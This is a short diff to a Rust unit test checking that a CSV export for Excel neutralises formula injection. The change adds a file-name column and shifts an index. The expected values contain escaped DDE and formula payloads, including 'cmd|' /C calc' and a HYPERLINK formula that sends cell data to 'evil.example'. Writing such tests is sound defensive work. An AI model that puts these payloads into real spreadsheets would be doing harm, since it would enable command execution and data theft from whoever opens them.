@@ -93,7 +93,7 @@ fn csv_for_excel_neutralises_every_formula_and_plain_csv_stays_verbatim() {
     assert_eq!(
         record,
         format!(
-            "\"'+cmd|' /C calc'!A0\",\"{paragraph}\",\"¶3\",\"civil-society\",\"'-2+3\",\"diversos foros\",\
+            "\"'+cmd|' /C calc'!A0\",\"informe.txt\",\"{paragraph}\",\"¶3\",\"civil-society\",\"'-2+3\",\"diversos foros\",\
              \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Ver\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",\
              \"2026-11-29T10:39:54Z\",\"anchored\",\"01M8KE7M4G0000000000000001\""
         )
@@ -106,7 +106,7 @@ fn csv_for_excel_neutralises_every_formula_and_plain_csv_stays_verbatim() {
         let excel = csv("Informe", &tags, &annotations, true);
         let mut reader = ::csv::Reader::from_reader(excel.trim_start_matches('\u{feff}').as_bytes());
         let row = reader.records().next().unwrap().unwrap();
-        assert_eq!(&row[5], format!("'{trigger}1+1"), "{trigger:?}");
+        assert_eq!(&row[6], format!("'{trigger}1+1"), "{trigger:?}");
     }
 }
 
